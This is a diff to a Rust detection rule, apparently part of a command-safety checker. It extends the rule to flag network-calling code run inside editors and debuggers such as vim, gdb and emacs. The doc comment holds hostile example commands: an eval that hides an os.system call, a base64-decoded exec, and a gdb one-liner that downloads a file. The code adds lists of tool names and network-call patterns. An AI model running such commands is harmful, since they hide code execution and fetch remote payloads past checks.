@@ -1,4 +1,5 @@
-//! `hidden-code`: code that imports a module inside an expression, or decodes itself before it runs.
+//! `hidden-code`: code that imports a module inside an expression, decodes itself before it runs, or speaks to another
+//! machine from inside an editor or a debugger.
 //!
 //! ## Why
 //! Code is written so to pass a check that looks for names, as an injected expression does. ATT&CK T1027, T1059.006.
@@ -6,6 +7,7 @@
 //! ## Examples
 //! - asked: `python3 -c "eval(\"__import__('os').system('ls')\")"`
 //! - asked: `python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"`
+//! - asked: `gdb -nx -ex "python import urllib.request as u; u.urlretrieve('https://cdn.example.net/x', 'x')" -ex quit`
 //! - passes: `python3 -c "m = __import__(name); print(m.__version__)"`
 //! - passes: `python3 -c "import os; print(os.getcwd())"`
 //! - passes: `grep -rn "__import__('os')" src`
@@ -56,11 +58,43 @@ pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
                     .any(|text| imports(text) && has_any(text, &[".system(", ".popen(", "call(", "run(", "spawn("]))
         })
     };
-    (in_code() || passed()).then(|| {
+    (in_code() || passed() || inside_of_tool(view)).then(|| {
         Hit::new(
-            "Runs code that hides what it does: it imports a module inside an expression, or decodes itself",
-            "import the module at the top, and write the code out",
+            "Runs code that hides what it does: inside an expression or another tool, or decoded as it runs",
+            "write the code out, and run it by its own interpreter",
         )
+    })
+}
+
+/// Code inside of an editor or a debugger that speaks to another machine.
+fn inside_of_tool(view: &View<'_>) -> bool {
+    const TOOLS: &[&str] = &[
+        "vim",
+        "vi",
+        "nvim",
+        "view",
+        "rview",
+        "rvim",
+        "gview",
+        "vimdiff",
+        "ex",
+        "gdb",
+        "lldb",
+        "gimp",
+        "gimp-console",
+        "emacs",
+    ];
+    const SPEAKS: &[&str] =
+        &["urlopen(", "urlretrieve(", "requests.", "httpx.", "http.client", "socket.", "URI.open", "Net::HTTP"];
+    view.scripts().any(|script| {
+        let command = view.index().command(script.command_id);
+        let by_tool = command.is_some_and(|command| {
+            command
+                .via
+                .iter()
+                .any(|via| via.kind == "code" && is_any(via.detail.rsplit('/').next().unwrap_or_default(), TOOLS))
+        });
+        by_tool && has_any(&script.text, SPEAKS)
     })
 }
 
